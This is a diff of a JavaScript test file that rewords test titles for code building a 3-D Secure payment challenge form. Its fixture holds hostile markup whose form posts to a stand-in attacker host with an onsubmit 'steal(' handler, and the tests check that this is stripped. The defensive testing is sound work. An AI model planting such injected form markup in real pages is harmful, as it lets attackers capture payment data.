@@ -9,14 +9,14 @@ const html = `<form method="get" action="https://evil.example/" onsubmit="steal(
 
 afterEach(() => vi.restoreAllMocks())
 
-it('takes the hidden fields and nothing else of the answered markup', () => {
+it("reads only the hidden fields of the response's markup", () => {
   expect(hiddenFields(html)).toEqual([
     ['PaReq', 'a"b'],
     ['MD', '42'],
   ])
 })
 
-it('builds the form itself, with the address that was answered for it [S2-4-05]', () => {
+it('builds the form with the address of the response [S2-4-05]', () => {
   const form = challengeForm({ htmlFormAction: '/sandbox/3ds/challenge', htmlFormToPost: html }, document)
   expect([form.method, form.getAttribute('action'), form.elements.length]).toEqual([
     'post',
@@ -26,7 +26,7 @@ it('builds the form itself, with the address that was answered for it [S2-4-05]'
   expect(form.querySelector('script, img, [onsubmit]')).toBeNull()
 })
 
-it('posts it at once, and only to this site or over https [S2-4-05]', () => {
+it('submits the form immediately, and only to this site or over https [S2-4-05]', () => {
   const submit = vi.spyOn(HTMLFormElement.prototype, 'submit').mockImplementation(() => {})
   goToChallenge({ htmlFormAction: 'https://bank.example/3ds', htmlFormToPost: html }, document)
   expect(submit).toHaveBeenCalledOnce()
